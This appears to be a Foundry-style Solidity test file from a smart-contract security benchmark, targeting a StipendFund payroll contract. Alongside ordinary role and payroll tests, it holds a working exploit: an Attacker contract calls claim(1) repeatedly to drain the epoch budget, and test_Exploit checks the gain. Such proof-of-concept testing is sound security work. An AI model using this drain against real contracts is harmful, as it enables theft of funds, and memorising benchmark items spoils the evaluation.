// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./StipendFund.sol";
import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-0d44d254-60e0-4a29-8674-d6b669342bfc

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant PAYROLL = address(0x9A1);
    uint256 private constant START = 1_700_000_000;

    Coin private token;
    StipendFund private fund;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        fund = new StipendFund(token, 100e18);
        mallory = new Attacker(fund);
        fund.grantRole(fund.PAYROLL_ROLE(), PAYROLL);
        fund.grantRole(fund.MEMBER_ROLE(), ANA);
        fund.grantRole(fund.MEMBER_ROLE(), address(mallory));
        address[] memory list = new address[](10);
        for (uint160 i = 0; i < 8; i++) {
            list[i] = address(0x1000 + i);
            fund.grantRole(fund.MEMBER_ROLE(), list[i]);
        }
        list[8] = ANA;
        list[9] = address(mallory);
        token.transfer(PAYROLL, 10_000e18);
        vm.startPrank(PAYROLL);
        token.approve(address(fund), 10_000e18);
        fund.openEpoch(list);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.prank(ANA);
        fund.claim(1);
        require(token.balanceOf(ANA) == 100e18 && fund.budgets(1) == 900e18, "claimed");
        address[] memory list = new address[](2);
        list[0] = ANA;
        list[1] = BEN;
        vm.prank(PAYROLL);
        require(fund.openEpoch(list) == 2 && fund.budgets(2) == 200e18, "opened");
        fund.grantRole(fund.MEMBER_ROLE(), BEN);
        vm.prank(BEN);
        fund.claim(2);
        vm.warp(START + 30 days + 1);
        vm.prank(PAYROLL);
        fund.closeEpoch(2);
        require(token.balanceOf(PAYROLL) == 8_900e18 && fund.budgets(2) == 0, "closed");
        fund.revokeRole(fund.MEMBER_ROLE(), BEN);
        fund.renounceRole(fund.DEFAULT_ADMIN_ROLE(), address(this));
    }

    function test_RefusesSetups() public {
        vm.expectRevert("StipendFund: no stipend");
        new StipendFund(token, 0);
        vm.startPrank(ANA);
        bytes32 role = fund.MEMBER_ROLE();
        vm.expectRevert();
        fund.grantRole(role, BEN);
        vm.expectRevert();
        fund.revokeRole(role, ANA);
        vm.stopPrank();
    }

    function test_RefusesPayroll() public {
        address[] memory list = new address[](2);
        list[0] = ANA;
        list[1] = ANA;
        vm.prank(PAYROLL);
        vm.expectRevert("StipendFund: listed twice");
        fund.openEpoch(list);
        vm.expectRevert();
        fund.openEpoch(new address[](0));
        vm.prank(PAYROLL);
        fund.openEpoch(new address[](0));
        vm.warp(START + 30 days);
        vm.prank(PAYROLL);
        vm.expectRevert("StipendFund: still open");
        fund.closeEpoch(1);
        vm.warp(START + 30 days + 1);
        vm.expectRevert();
        fund.closeEpoch(1);
        vm.prank(PAYROLL);
        fund.closeEpoch(1);
    }

    function test_RefusesClaims() public {
        vm.prank(ANA);
        vm.expectRevert("StipendFund: budget spent");
        fund.claim(2);
        address[] memory list = new address[](1);
        list[0] = BEN;
        vm.prank(PAYROLL);
        fund.openEpoch(list);
        vm.prank(BEN);
        vm.expectRevert();
        fund.claim(2);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 800e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    StipendFund private fund;

    constructor(StipendFund f) {
        fund = f;
    }

    function run() external {
        while (fund.budgets(1) >= 100e18) fund.claim(1);
    }
}
